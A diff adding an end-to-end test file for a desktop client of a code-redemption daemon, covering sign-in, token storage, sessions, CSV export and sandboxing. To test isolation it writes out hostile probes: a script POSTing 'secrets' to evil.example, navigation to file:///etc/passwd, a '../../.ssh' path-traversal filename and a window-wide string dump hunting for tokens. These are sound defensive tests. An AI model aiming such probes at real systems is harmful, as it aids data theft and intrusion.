@@ -1,0 +1,271 @@
+import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync } from 'node:fs';
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import type { Page } from 'playwright-core';
+import { afterAll, beforeAll, beforeEach, expect, test } from 'vitest';
+import { inBrowser } from '../support/browser.ts';
+import { readCsv } from '../support/bulk.ts';
+import { runningCampaign } from '../support/campaign.ts';
+import { OWNER, startTestDaemon, type TestDaemon } from '../support/daemon.ts';
+import { type Desktop, openPage, PAGE, startDesktop } from '../support/desktop.ts';
+import type { StandInOptions } from '../support/electron-stand-in.ts';
+
+// The built main process and preload under a stand-in for Electron, with Chromium as the window and a real daemon.
+// It proves nothing about Electron's own isolation: see test/support/desktop.ts.
+
+inBrowser('the desktop app, under a stand-in for Electron', (screens) => {
+  const root = mkdtempSync(join(tmpdir(), 'redeemd-desktop-'));
+  let daemon: TestDaemon;
+  let campaignId: number;
+  let userData: string;
+  let downloads: string;
+  /** Every token that crossed to the daemon. */
+  let tokens: Set<string>;
+
+  beforeAll(async () => {
+    daemon = await startTestDaemon();
+    campaignId = await runningCampaign(daemon);
+  });
+  afterAll(async () => {
+    await daemon?.close();
+    rmSync(root, { recursive: true });
+  });
+  beforeEach(() => {
+    const own = mkdtempSync(join(root, 'run-'));
+    userData = join(own, 'data');
+    downloads = join(own, 'downloads');
+    for (const folder of [userData, downloads]) mkdirSync(folder);
+    tokens = new Set();
+  });
+
+  async function open({ isHostile = false, ...options }: Partial<StandInOptions> & { isHostile?: boolean } = {}) {
+    const desktop = await startDesktop({ userData, downloads, ...options });
+    const { state } = desktop.electron;
+    const send = state.fetch;
+    state.fetch = (url, init) => {
+      const { Authorization = '' } = (init?.headers ?? {}) as Record<string, string>;
+      if (Authorization) tokens.add(Authorization.replace('Bearer ', ''));
+      return send(url, init);
+    };
+    const { page } = await screens.open({ mayLoseConnection: true, isHostile });
+    return { desktop, page, ...(await openPage(desktop, page)) };
+  }
+  async function connect(page: Page, address = daemon.url) {
+    await page.getByLabel('Server address').fill(address);
+    await page.getByRole('button', { name: 'Connect' }).click();
+  }
+  async function signIn(page: Page) {
+    await page.getByLabel('E-mail').fill(OWNER.email);
+    await page.getByLabel('Password', { exact: true }).fill(OWNER.password);
+    await page.getByRole('button', { name: 'Sign in' }).click();
+    await page.getByRole('navigation', { name: 'Main' }).waitFor();
+  }
+  const openSignedIn = async (options?: Parameters<typeof open>[0]) => {
+    const opened = await open(options);
+    await connect(opened.page);
+    await signIn(opened.page);
+    return opened;
+  };
+  const dataFiles = () => readdirSync(userData).map((name) => readFileSync(join(userData, name), 'latin1'));
+
+  test('asks for a server, and takes none that would see the password in the clear', async () => {
+    const { page } = await open();
+    await page.getByRole('heading', { name: 'Connect' }).waitFor();
+    expect(await page.getByLabel('Server address').inputValue()).toBe('http://127.0.0.1:8787');
+    await connect(page, 'http://redeem.example.com');
+    await page.getByRole('alert').getByText('Plain http is for this machine alone').waitFor();
+    await connect(page, 'http://127.0.0.1:1');
+    await page.getByRole('alert').getByText('cannot be reached').waitFor();
+    const stranger = createServer((_request, response) => response.end('<h1>hello'));
+    await new Promise<void>((resolve) => stranger.listen(0, '127.0.0.1', resolve));
+    await connect(page, `127.0.0.1:${(stranger.address() as AddressInfo).port}`);
+    await page.getByRole('alert').getByText('it is not redeemd').waitFor();
+    stranger.close();
+    expect(readdirSync(userData)).toEqual([]);
+    await connect(page, `${daemon.url}/portal/`);
+    await page.getByRole('heading', { name: 'Sign in' }).waitFor();
+  });
+
+  test('signs in and shows campaigns; the token is neither in the page nor in the clear on disk', async () => {
+    const { desktop, page, left } = await openSignedIn();
+    await page.getByRole('link', { name: 'Campaigns' }).click();
+    await page.getByRole('link', { name: 'Running' }).first().waitFor();
+    expect(new URL(page.url()).pathname).toBe('/campaigns');
+    expect([...tokens]).toHaveLength(1);
+    await page.evaluate(`window.planted = { deep: ['found', { deeper: 'a canary' }] }`);
+    const inPage = JSON.stringify([await page.context().storageState({ indexedDB: true }), await page.evaluate(DUMP)]);
+    expect(inPage).toContain('a canary');
+    for (const token of tokens) {
+      expect(token.length).toBeGreaterThan(20);
+      expect(inPage).not.toContain(token);
+      expect(desktop.answers.join('\n')).not.toContain(token);
+      for (const text of dataFiles()) expect(text).not.toContain(token);
+    }
+    expect(statSync(join(userData, 'sessions.json')).mode & 0o777).toBe(0o600);
+    expect(left, 'what the page asked the net for').toEqual([]);
+  });
+
+  test('keeps the session over a restart, and ends it at sign-out', async () => {
+    await openSignedIn();
+    const { page } = await open();
+    await page.getByRole('navigation', { name: 'Main' }).waitFor();
+    await page.getByRole('button', { name: /^Account of/ }).click();
+    await page.getByRole('menuitem', { name: 'Sign out' }).click();
+    await page.getByRole('heading', { name: 'Sign in' }).waitFor();
+    expect(JSON.parse(readFileSync(join(userData, 'sessions.json'), 'utf8'))).toEqual({});
+    for (const token of tokens) {
+      const after = await fetch(`${daemon.url}/v1/admin/session`, { headers: { Authorization: `Bearer ${token}` } });
+      expect(after.status).toBe(401);
+    }
+  });
+
+  test.each(['none', 'basic_text'] as const)('writes no token where the key store is %s', async (keyStore) => {
+    await openSignedIn({ keyStore });
+    expect(readdirSync(userData)).toEqual(['connections.json']);
+    const { page } = await open({ keyStore });
+    await page.getByRole('heading', { name: 'Sign in' }).waitFor();
+  });
+
+  test('forgets a token that the daemon ended, and asks for the password again', async () => {
+    const { page } = await openSignedIn();
+    const [token = ''] = tokens;
+    await fetch(`${daemon.url}/v1/admin/session`, { method: 'DELETE', headers: { Authorization: `Bearer ${token}` } });
+    await page.getByRole('link', { name: 'Campaigns' }).click();
+    await page.getByText('Your session has ended').waitFor();
+    expect(JSON.parse(readFileSync(join(userData, 'sessions.json'), 'utf8'))).toEqual({});
+  });
+
+  test('changes the server and finds the session of the one before again', async () => {
+    const { page } = await openSignedIn();
+    await page.getByRole('button', { name: /^Account of/ }).click();
+    await page.getByRole('menuitem', { name: 'Change server' }).click();
+    await page.getByRole('button', { name: daemon.url, exact: true }).click();
+    await page.getByRole('navigation', { name: 'Main' }).waitFor();
+    await page.getByRole('button', { name: /^Account of/ }).click();
+    await page.getByRole('menuitem', { name: 'Change server' }).click();
+    await page.getByRole('button', { name: `Forget ${daemon.url}` }).click();
+    await page.getByRole('button', { name: daemon.url, exact: true }).waitFor({ state: 'detached' });
+    expect(JSON.parse(readFileSync(join(userData, 'connections.json'), 'utf8'))).toEqual({ current: null, known: [] });
+    expect(JSON.parse(readFileSync(join(userData, 'sessions.json'), 'utf8'))).toEqual({});
+  });
+
+  test('saves the CSV of bulk codes byte for byte, or not at all', async () => {
+    const { desktop, page } = await openSignedIn();
+    const { state } = desktop.electron;
+    await page.goto(`${PAGE}/campaigns/${campaignId}/bulk`);
+    await page.getByLabel('Name', { exact: true }).fill('Bulk');
+    await page.getByLabel('How many').fill('2000');
+    await page.getByLabel('Redeem page').fill('https://game.example/redeem');
+    await page.getByRole('button', { name: 'Make codes' }).click();
+    const save = page.getByRole('button', { name: 'Save CSV' });
+    const saveAs = async (filePath: string) => {
+      state.dialogs.push({ canceled: false, filePath });
+      await save.click();
+    };
+    await page.getByText('2,000 codes made.').waitFor();
+
+    await save.click(); // nobody chose a place
+    await saveAs(join(downloads, 'gone', 'codes.csv'));
+    await page.getByText('This folder is gone.').waitFor();
+    await breakingOff(desktop, async () => {
+      await saveAs(join(downloads, 'half.csv'));
+      await page.getByText('The server cannot be reached').waitFor();
+    });
+    expect(readdirSync(downloads)).toEqual([]);
+    expect(state.shown).toEqual([]);
+
+    const place = join(downloads, 'codes.csv');
+    await saveAs(place);
+    await page.getByText(`Saved to ${place}`).waitFor();
+    const [, jobId = ''] = /codes-(\d+)\.csv$/.exec(state.dialogOptions.at(-1)?.defaultPath ?? '') ?? [];
+    const { text } = await readCsv(daemon, Number(jobId));
+    expect(text.split('\n').length).toBeGreaterThan(2000);
+    expect(readFileSync(place)).toEqual(Buffer.from(text));
+    expect(statSync(place).mode & 0o777).toBe(0o600);
+    expect(readdirSync(downloads)).toEqual(['codes.csv']);
+    expect(state.shown).toEqual([place]);
+    expect(desktop.window().progress.at(-1)).toBe(-1);
+    expect(desktop.answers.join('')).not.toContain(text.split('\r\n')[5]);
+  });
+
+  test('saves what the page made itself under a name that leads nowhere', async () => {
+    const { desktop, page } = await open();
+    const { state } = desktop.electron;
+    state.dialogs.push({ canceled: false, filePath: join(downloads, 'qr.png') });
+    await page.evaluate(`portalBridge.saveFile('../../.ssh/qr.png', new Uint8Array([137, 80, 0, 255]), 'image/png')`);
+    expect([...readFileSync(join(downloads, 'qr.png'))]).toEqual([137, 80, 0, 255]);
+    expect(state.dialogOptions[0]?.defaultPath).toBe(join(downloads, '_.._.ssh_qr.png'));
+  });
+
+  test('lets a hostile page neither out nor in', async () => {
+    const { desktop, page, left } = await openSignedIn({ isHostile: true });
+    const before = page.url();
+    expect(await page.evaluate(`(${HOSTILE})(${JSON.stringify(daemon.url)})`)).toEqual({
+      fetched: 'refused',
+      own: 'refused',
+      bridge: expect.arrayContaining(['call', 'signIn']),
+      globals: ['undefined', 'undefined', 'undefined'],
+    });
+    for (const target of ['https://evil.example/', daemon.url, 'file:///etc/passwd', 'portal://evil/'])
+      await page.evaluate(`setTimeout(() => { location.href = ${JSON.stringify(target)} })`);
+    await page.waitForTimeout(300);
+    expect(page.url()).toBe(before);
+    expect(left).toEqual([]);
+    const framed = await page.evaluate(`new Promise((resolve) => {
+      const frame = document.body.appendChild(document.createElement('iframe'));
+      setTimeout(() => resolve(frame.contentWindow.askStandIn?.('session', []) ?? 'no bridge'), 100);
+    })`);
+    expect(framed).toMatchObject({ ok: false, problem: { code: 'forbidden' } });
+    expect(existsSync(join(userData, 'sessions.json'))).toBe(true);
+    expect(desktop.window().webContents.openHandler({ url: 'https://evil.example' })).toEqual({ action: 'deny' });
+  });
+});
+
+/** A daemon that dies in the middle of its answer. */
+async function breakingOff({ electron: { state } }: Desktop, act: () => Promise<void>) {
+  const dying = createServer((_request, response) => {
+    response.writeHead(200, { 'Content-Type': 'text/csv', 'Content-Length': 100_000 });
+    response.write('code,code_url\r\n', () => setTimeout(() => response.destroy(), 50));
+  });
+  await new Promise<void>((resolve) => dying.listen(0, '127.0.0.1', resolve));
+  const send = state.fetch;
+  const { port } = dying.address() as AddressInfo;
+  state.fetch = (url, init) => send(url.endsWith('/csv') ? `http://127.0.0.1:${port}` : url, init);
+  await act();
+  state.fetch = send;
+  dying.close();
+}
+
+/** Everything a script can see from the window: strings of every object within reach, and the page itself. */
+const DUMP = `(() => {
+  const seen = new Set();
+  const found = [document.documentElement.outerHTML, document.cookie, location.href];
+  const look = (value, depth) => {
+    if (typeof value === 'string') return void found.push(value);
+    if ((typeof value !== 'object' && typeof value !== 'function') || value === null || seen.has(value)) return;
+    if (depth > 12 || seen.size > 200000) return;
+    seen.add(value);
+    for (const key of Reflect.ownKeys(value)) {
+      if (typeof key === 'string') found.push(key);
+      try {
+        const member = value[key];
+        if (member instanceof Promise) member.catch(() => {});
+        look(member, depth + 1);
+      } catch {}
+    }
+  };
+  look(window, 0);
+  return found.join('\\n');
+})()`;
+
+const HOSTILE = `async (daemon) => {
+  const attempt = (url, options) => fetch(url, options).then((answer) => 'answered ' + answer.status, () => 'refused');
+  return {
+    fetched: await attempt(daemon + '/v1/admin/session'),
+    own: await attempt('https://evil.example/', { method: 'POST', body: 'secrets', mode: 'no-cors' }),
+    bridge: Object.keys(portalBridge),
+    globals: [typeof require, typeof process, typeof window.ipcRenderer],
+  };
+}`;
